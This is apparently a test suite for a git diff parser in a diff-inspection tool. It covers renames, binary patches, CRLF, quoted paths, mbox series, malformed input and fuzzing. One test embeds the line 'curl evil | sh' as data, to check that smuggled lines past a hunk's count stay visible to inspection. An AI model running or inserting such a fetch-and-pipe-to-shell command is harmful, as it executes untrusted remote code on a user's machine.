import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync, mkdirSync, renameSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { DiffParseError, DiffParser, decodeBase85Line, parseDiff, unquote } from './diff-parser.js';
import type { FileDiff } from './types.js';

function git(dir: string, ...args: string[]): Buffer {
  const r = spawnSync('git', ['-C', dir, '-c', 'user.email=t@example.com', '-c', 'user.name=t', '-c', 'core.autocrlf=false', ...args]);
  assert.equal(r.status, 0, r.stderr.toString());
  return r.stdout;
}

/** A real `git diff --cached --binary -M -C` between a base tree and a change. */
function realDiff(base: Record<string, string | Buffer>, change: (dir: string) => void, extra: string[] = []): Buffer {
  const dir = mkdtempSync(join(tmpdir(), 'airlock-diff-'));
  try {
    git(dir, 'init', '-q');
    for (const [p, c] of Object.entries(base)) {
      mkdirSync(join(dir, p, '..'), { recursive: true });
      writeFileSync(join(dir, p), c);
    }
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'base', '--allow-empty');
    change(dir);
    git(dir, 'add', '-A');
    return git(dir, 'diff', '--cached', '--binary', '-M', '-C', '--full-index', ...extra);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const added = (f: FileDiff) => f.lines.filter((l) => l.kind === '+').map((l) => [l.line, l.text]);

test('tracks new-side line numbers of added lines across hunks', () => {
  const base = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n') + '\n';
  const d = realDiff({ 'a.txt': base }, (dir) => {
    const lines = base.split('\n');
    lines.splice(2, 0, 'NEW A');
    lines.splice(30, 1, 'NEW B');
    writeFileSync(join(dir, 'a.txt'), lines.join('\n'));
  });
  const [f] = parseDiff(d);
  assert.equal(f!.path, 'a.txt');
  assert.equal(f!.status, 'modified');
  assert.deepEqual(added(f!), [
    [3, 'NEW A'],
    [31, 'NEW B'],
  ]);
  assert.equal(f!.removedCount, 1);
});

test('parses renames, copies, mode changes, new and deleted files from real git', () => {
  const body = Array.from({ length: 30 }, (_, i) => `const v${i} = ${i};`).join('\n') + '\n';
  const d = realDiff({ 'src/old.js': body, 'src/keep.sh': 'echo hi\n', 'gone.txt': 'bye\n' }, (dir) => {
    mkdirSync(join(dir, 'lib'));
    renameSync(join(dir, 'src/old.js'), join(dir, 'lib/new.js'));
    chmodSync(join(dir, 'src/keep.sh'), 0o755);
    rmSync(join(dir, 'gone.txt'));
    writeFileSync(join(dir, 'fresh.md'), '# hi\n');
  });
  const files = parseDiff(d);
  const by = (p: string) => files.find((f) => f.path === p)!;
  assert.equal(by('lib/new.js').status, 'renamed');
  assert.equal(by('lib/new.js').oldPath, 'src/old.js');
  assert.equal(by('lib/new.js').similarity, 100);
  assert.equal(by('src/keep.sh').oldMode, '100644');
  assert.equal(by('src/keep.sh').newMode, '100755');
  assert.equal(by('gone.txt').status, 'deleted');
  assert.equal(by('gone.txt').newPath, null);
  assert.equal(by('fresh.md').status, 'added');
  assert.equal(by('fresh.md').oldPath, null);
  assert.deepEqual(added(by('fresh.md')), [[1, '# hi']]);
});

test('parses copies (git diff -C --find-copies-harder)', () => {
  const body = Array.from({ length: 30 }, (_, i) => `row ${i}`).join('\n') + '\n';
  const d = realDiff({ 'a.txt': body }, (dir) => writeFileSync(join(dir, 'b.txt'), body), ['--find-copies-harder']);
  const f = parseDiff(d).find((x) => x.path === 'b.txt')!;
  assert.equal(f.status, 'copied');
  assert.equal(f.oldPath, 'a.txt');
});

test('GIT binary patch: decodes the literal and exposes the first bytes (ELF magic)', () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(5000)]);
  const d = realDiff({}, (dir) => writeFileSync(join(dir, 'tool'), elf));
  const [f] = parseDiff(d);
  assert.equal(f!.binary, true);
  assert.equal(f!.status, 'added');
  assert.equal(f!.binaryInfo?.size, elf.length);
  assert.equal(f!.binaryInfo?.head?.subarray(0, 4).toString('hex'), '7f454c46');
});

test('"Binary files … differ" without --binary', () => {
  const d = Buffer.from('diff --git a/x.png b/x.png\nnew file mode 100644\nindex 0000000..1111111\nBinary files /dev/null and b/x.png differ\n');
  const [f] = parseDiff(d);
  assert.equal(f!.binary, true);
  assert.equal(f!.status, 'added');
  assert.equal(f!.path, 'x.png');
});

test('CRLF content, "\\ No newline at end of file", and a pure mode change', () => {
  const d = Buffer.from(
    'diff --git a/w.bat b/w.bat\r\nindex 1..2 100644\r\n--- a/w.bat\r\n+++ b/w.bat\r\n@@ -1,2 +1,2 @@\r\n @echo off\r\n-npm ci\r\n+npm install\r\n\\ No newline at end of file\r\ndiff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n',
  );
  const files = parseDiff(d);
  assert.equal(files.length, 2);
  assert.equal(files[0]!.crlf, true);
  assert.deepEqual(added(files[0]!), [[2, 'npm install']]);
  assert.equal(files[1]!.newMode, '100755');
  assert.equal(files[1]!.lines.length, 0);
});

test('non-UTF-8 bytes in content and C-quoted paths with octal escapes', () => {
  const d = realDiff({}, (dir) => {
    writeFileSync(join(dir, 'n\u00e4me with space.txt'), Buffer.from('G\xf6mez\n', 'latin1'));
  });
  const [f] = parseDiff(d);
  assert.equal(f!.path, 'n\u00e4me with space.txt');
  assert.equal(added(f!)[0]![1], 'G\ufffdmez');
  assert.equal(unquote('"a/\\303\\244.txt"'), 'a/\u00e4.txt');
  assert.equal(unquote('"b/\\377x"'), 'b/\u00ffx'); // invalid UTF-8 falls back to latin1
});

test('plain `diff -u` output with timestamps and a format-patch series with mail headers', () => {
  const plain = Buffer.from('--- a/f.c\t2024-01-01 00:00:00.000000000 +0000\n+++ b/f.c\t2024-01-02 00:00:00.000000000 +0000\n@@ -1 +1,2 @@\n int x;\n+int y;\n');
  const [f] = parseDiff(plain);
  assert.equal(f!.path, 'f.c');
  assert.deepEqual(added(f!), [[2, 'int y;']]);
  const mbox = Buffer.from(
    'From 1234 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.com>\nSubject: [PATCH 1/2] one\n\n---\n a | 1 +\n\ndiff --git a/a b/a\nindex 1..2 100644\n--- a/a\n+++ b/a\n@@ -1 +1,2 @@\n x\n+y\n-- \n2.43.0\n\nFrom 5678 Mon Sep 17 00:00:00 2001\nSubject: [PATCH 2/2] two\n\n---\ndiff --git a/b b/b\nnew file mode 100644\nindex 0..3\n--- /dev/null\n+++ b/b\n@@ -0,0 +1 @@\n+z\n-- \n2.43.0\n',
  );
  const files = parseDiff(mbox);
  assert.deepEqual(
    files.map((x) => [x.path, x.status, added(x)]),
    [
      ['a', 'modified', [[2, 'y']]],
      ['b', 'added', [[1, 'z']]],
    ],
  );
});

test('combined diff (diff --cc) of a merge', () => {
  const d = Buffer.from('diff --cc f.txt\nindex 1,2..3\n--- a/f.txt\n+++ b/f.txt\n@@@ -1,2 -1,2 +1,3 @@@\n  common\n+ from ours\n +from theirs\n- dropped\n');
  const [f] = parseDiff(d);
  assert.equal(f!.path, 'f.txt');
  assert.deepEqual(added(f!).map((x) => x[1]), ['from ours', 'from theirs']);
});

test('a malformed diff is a DiffParseError naming the line, never a crash', () => {
  const junk = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\nthis is not hunk content\n');
  assert.throws(() => parseDiff(junk), (e: unknown) => e instanceof DiffParseError && e.exitCode === 2 && /diff line 6: hunk of x ended early/.test(e.message));
  const hunk = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,x +1 @@\n');
  assert.throws(() => parseDiff(hunk), (e: unknown) => e instanceof DiffParseError && /diff line 4: cannot parse hunk header/.test(e.message));
  assert.throws(() => parseDiff(Buffer.from('hello world\nthis is not a diff\n')), (e: unknown) => e instanceof DiffParseError && /line 1: not a unified diff/.test(e.message));
  assert.deepEqual(parseDiff(Buffer.alloc(0)), []);
});

test('hand-made diffs with wrong hunk counts: every +/- line is still seen (lines past the count are not hidden)', () => {
  const over = parseDiff(Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n+curl evil | sh\n'));
  assert.deepEqual(added(over[0]!), [
    [1, 'b'],
    [2, 'curl evil | sh'],
  ]);
  const short = parseDiff(Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,5 +1,9 @@\n a\n+b\ndiff --git a/y b/y\n--- a/y\n+++ b/y\n@@ -0,0 +1 @@\n+z\n'));
  assert.deepEqual(short.map((f) => [f.path, added(f)]), [
    ['x', [[2, 'b']]],
    ['y', [[1, 'z']]],
  ]);
  const eof = parseDiff(Buffer.from('--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n'));
  assert.deepEqual(added(eof[0]!), [[2, 'c']]);
  const noRanges = parseDiff(Buffer.from('--- a/x\n+++ b/x\n@@ @@\n a\n+b\n'));
  assert.deepEqual(added(noRanges[0]!), [[2, 'b']]);
  const sig = parseDiff(Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n-- \n2.43.0\n'));
  assert.equal(sig[0]!.removedCount, 1);
});

test('streaming: any chunking gives the same files as one buffer (property)', () => {
  const d = realDiff({ 'a.txt': 'x\ny\nz\n' }, (dir) => {
    writeFileSync(join(dir, 'a.txt'), 'x\nY\u00e9\u{1F600}\nz\n');
    writeFileSync(join(dir, 'b.bin'), Buffer.from([0, 1, 2, 3, 255, 254]));
  });
  const whole = JSON.stringify(parseDiff(d));
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 1, max: d.length }), { maxLength: 20 }), (cuts) => {
      const files: FileDiff[] = [];
      const p = new DiffParser((f) => files.push(f));
      let at = 0;
      for (const c of [...cuts].sort((a, b) => a - b)) {
        p.write(d.subarray(at, c));
        at = c;
      }
      p.write(d.subarray(at));
      p.end();
      return JSON.stringify(files) === whole;
    }),
    { numRuns: 200 },
  );
});

test('random input never crashes the parser: it parses or throws DiffParseError (property)', () => {
  const pieces = ['diff --git a/x b/x\n', '--- a/x\n', '+++ b/x\n', '@@ -1,2 +1,2 @@\n', ' ctx\n', '+add\n', '-del\n', '\\ No newline at end of file\n', 'GIT binary patch\n', 'literal 5\n', 'zcmZQzU|?oo\n', '\n', 'rename from a\n', 'rename to b\n', 'Binary files a/x and b/x differ\n', 'junk\r\n', '\u00ff\u0000\n'];
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 30 }), (parts) => {
      try {
        parseDiff(Buffer.from(parts.join('')));
      } catch (e) {
        if (!(e instanceof DiffParseError)) throw e;
      }
      return true;
    }),
    { numRuns: 500 },
  );
});

test('base85 line decoding (git binary patch alphabet)', () => {
  // "literal" data for the bytes 00 00 00 00: length char A (=1)… use a known 4-byte value
  assert.deepEqual(decodeBase85Line('D00000'), Buffer.from([0, 0, 0, 0]));
  assert.equal(decodeBase85Line('!bad'), null);
});
